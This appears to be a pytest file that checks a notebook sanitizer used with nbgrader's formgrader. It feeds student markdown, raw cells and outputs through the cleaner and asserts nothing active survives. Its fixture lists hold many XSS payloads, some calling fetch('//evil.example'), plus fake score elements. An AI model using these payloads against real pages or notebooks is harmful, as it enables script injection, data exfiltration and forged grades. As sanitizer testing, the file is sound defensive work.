"""What formgrader makes of a notebook that was cleaned: nothing of a student's runs, loads, or passes for its own."""

import base64
import random
from html.parser import HTMLParser

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from nbgrader.server_extensions.formgrader import handlers
from traitlets.config import Config

from cnngrader.showing.markdown import JOINER, clean_markdown
from cnngrader.showing.notebook import clean_notebook

RUN = "fetch('//evil.example')"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{RUN}</script></svg>'
HOSTILE = [
    f"<script>{RUN}</script>",
    f"<scr<b></b>ipt>{RUN}</script>",
    f"a `code\n<script>{RUN}</script>` b",
    f"```\n<script>{RUN}</script>\n```",
    f"~~~ x` \n<img src=x onerror={RUN}>",
    f"    <img src=x onerror={RUN}>",
    f"<img/src='//evil.example/a.png' onerror=\"{RUN}\">",
    f"<svg onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "<iframe src=//evil.example></iframe>",
    f"<!-- --!><script>{RUN}</script> -->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?php <script>{RUN}</script> ?>",
    "<style>@import url(//evil.example/a.css);</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=q id=written class=score></form>",
    "<b id=written class=full-credit onclick=x>all points</b>",
    "<div data-commandlinker-command=terminal:create-new>here</div>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={RUN}></style></mglyph></math>",
    "![seen](http://evil.example/seen.png)",
    "![seen][there]\n\n[there]: http://evil.example/seen.png",
    "![seen](//evil.example/seen.png 'title')",
    "![seen](<http://evil.example/seen.png>)",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "[click](javascript:fetch('x'))",
    "[click](JaVaScRiPt&colon;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click]( javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click][j]\n\n[j]: javascript:alert(1)",
    "[click][j]\n\n> [j]:\n javascript:alert(1)",
    "<javascript:alert(1)>",
    r"$\href{javascript:alert(1)}{x}$",
    r"&#36;&#92;href{javascript:alert(1)}{x}&#36;",
    r"&dollar;&bsol;href{javascript:alert(1)}{x}&dollar;",
    r"\$\\href{javascript:alert(1)}{x}\$",
    r"$$\require{html}\style{position:fixed;background:url(//evil.example)}{x}$$",
    r"$\bbox[background: url(//evil.example)]{x}$",
    r'$\mmlToken{mi}[href="javascript:alert(1)"]{x}$',
    "# written",
    "1. # written",
    "> # *writ*ten",
    "written\n=======",
    "writt**en**\n---",
    "- written\n  ===",
]
OUTPUTS = [
    *[{"text/html": html} for html in HOSTILE if "<" in html],
    *[{"text/markdown": text} for text in HOSTILE],
    {"text/html": f"<a href='javascript:{RUN}'>x</a><a href='/formgrader/api/x'>y</a>"},
    {"text/html": "<table background=//evil.example><td style='background:url(//evil.example);position:fixed'>x"},
    {"text/latex": r"$\href{javascript:alert(1)}{x}$"},
    {"text/latex": f"<script>{RUN}</script>"},
    {"application/javascript": RUN},
    {"image/svg+xml": SVG},
    {"image/png": f'"><script>{RUN}</script>'},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "x</script><script>", "version_major": 2}},
    {"application/vnd.plotly.v1+json": {"data": []}},
]
METADATA = {
    "isolated": True,
    "filenames": {"image/png": "//evil.example/a.png", "image/svg+xml": "//evil.example/a.svg"},
    "text/html": {"isolated": True},
    "image/png": {"width": f"1 onload={RUN}", "alt": f'" onload="{RUN}', "unconfined": True},
}
OWN = "written"


class Page(HTMLParser):
    """What of a page does something."""

    def __init__(self, html: str):
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data):
        self.text += data

    def active(self) -> list[str]:
        """Each element that runs, loads or sends, or that the page would take for its own."""
        found = []
        for tag, about in self.elements:
            source = about.get("src", "")
            bad = tag in ("script", "iframe", "style", "link", "meta", "base", "form", "object", "embed", "math", "svg")
            bad |= any(name.startswith("on") or "commandlinker" in name for name in about)
            bad |= about.get("id") == OWN or bool({"score", "full-credit"} & set(about.get("class", "").split()))
            bad |= bool(source) and not source.startswith("data:image/")
            bad |= "url(" in about.get("style", "") or "position" in about.get("style", "")
            bad |= tag == "a" and not about.get("href", "#").startswith(("#", "http://", "https://", "mailto:"))
            if bad:
                found.append(f"<{tag} {about}>")
        reached = ("\\href{", "\\style{", "\\require{", "\\bbox[", "\\mmlToken{")
        return found + [name for name in reached if name in self.text]


@pytest.fixture(scope="module")
def show():
    config = Config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    exporter = HTMLExporter(config=config)
    about = {"base_url": "", "submission_id": "1", "notebook_id": "n", "assignment_id": "a", "index": 0, "total": 1}

    def page(*cells) -> Page:
        body, _ = exporter.from_notebook_node(new_notebook(cells=list(cells)), resources={**about, "student": "s"})
        return Page(body)

    return page


def cleaned(*cells, given=()):
    notebook = new_notebook(cells=list(cells))
    clean_notebook(notebook, given)
    nbformat.validate(notebook)
    return notebook.cells


def with_output(data, metadata=None):
    return new_code_cell("x", outputs=[new_output("display_data", data, metadata=metadata or {})])


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_shows_what_it_says_and_does_nothing(show, text):
    own = show(new_markdown_cell("")).active()
    assert show(*cleaned(new_markdown_cell(text))).active() == own
    assert show(*cleaned(new_raw_cell(text))).active() == own


@pytest.mark.filterwarnings("ignore:Your element with mimetype")
def test_most_of_these_do_something_where_nothing_is_cleaned(show):
    """Of some nbconvert takes care itself, today."""
    own = show(new_markdown_cell("")).active()
    assert sum(show(new_markdown_cell(text)).active() != own for text in HOSTILE) >= 30
    assert sum(show(with_output(data, METADATA)).active() != own for data in OUTPUTS) >= 30


@pytest.mark.parametrize("data", OUTPUTS, ids=lambda data: next(iter(data.items()))[0])
def test_a_hostile_output_does_nothing(show, data):
    own = show(new_markdown_cell("")).active()
    assert show(*cleaned(with_output(data, METADATA))).active() == own


def test_hostile_texts_put_together_at_random_do_nothing(show):
    own, rng = show(new_markdown_cell("")).active(), random.Random(0)
    joints = [
        "",
        " ",
        "\n",
        "\n\n",
        "\\",
        "`",
        "```\n",
        "$",
        "$$",
        "[",
        "](",
        "<",
        "> ",
        "- ",
        "&",
        "*",
        "_",
        "|",
        "\t",
    ]
    for _ in range(150):
        parts = [part for _ in range(4) for part in (rng.choice(joints), rng.choice(HOSTILE))]
        cut = "".join(part[rng.randrange(3) :] if rng.random() < 0.3 else part for part in parts)
        (cell,) = cleaned(new_markdown_cell(cut))
        assert show(cell).active() == own, cut


HONEST = [
    "It is $a < b$ where $x_1 \\le \\frac{1}{2}$, so `if a < b:` holds.",
    "$$\\begin{aligned} a &= b \\\\ c &= d \\end{aligned}$$",
    "H<sub>2</sub>O, and a line<br>below",
    "[the paper](https://arxiv.org/abs/1505.04597) says so, p. 3 & 4; R&D",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "1. one\n2. two\n   - three",
    "> quoted\n\n**bold** and *italic*, 3 > 2",
]


@pytest.mark.parametrize("text", HONEST)
def test_an_honest_text_is_left_as_it_is(text):
    assert clean_markdown(text) == text


@pytest.mark.parametrize("text", HOSTILE + HONEST)
def test_what_a_text_says_to_a_reader_stays_and_cleaning_again_changes_nothing(text):
    once = clean_markdown(text)
    assert once.replace(JOINER, "").replace("- - -", "---") == text
    assert clean_markdown(once) == once


def test_headings_stay_headings(show):
    page = show(*cleaned(new_markdown_cell("## My answer")))
    assert "h2" in [tag for tag, _ in page.elements]


def test_an_attached_picture_is_shown(show):
    pixel = base64.b64encode(b"\x89PNG\r\n\x1a\n").decode()
    cell = new_markdown_cell("![mine](attachment:a.png)", attachments={"a.png": {"image/png": pixel}})
    page = show(*cleaned(cell))
    assert f"data:image/png;base64,{pixel}" in [about.get("src") for tag, about in page.elements if tag == "img"]


def test_figures_and_tables_are_shown_with_what_describes_them(show):
    pixel = base64.b64encode(b"\x89PNG\r\n\x1a\n").decode()
    figure = with_output({"image/png": pixel, "text/plain": "<Figure>"}, {"image/png": {"alt": "a <line>", "width": 3}})
    table = with_output({"text/html": "<style>td {color: red}</style><table><tr><th>a</th></tr></table>"})
    page = show(*cleaned(figure, table))
    (image,) = [about for tag, about in page.elements if tag == "img" and about.get("alt")]
    assert (image["alt"], image["width"]) == ("a <line>", "3")
    assert "th" in [tag for tag, _ in page.elements]
    assert "color: red" not in page.text


def test_what_cannot_be_shown_is_named():
    (cell,) = cleaned(with_output({"application/javascript": RUN}))
    assert "application/javascript" in cell.outputs[0].data["text/plain"]


def test_the_courses_own_texts_stay():
    text = '<div class="note">Given</div>'
    assert [cell.source for cell in cleaned(new_markdown_cell(text), given={text})] == [text]
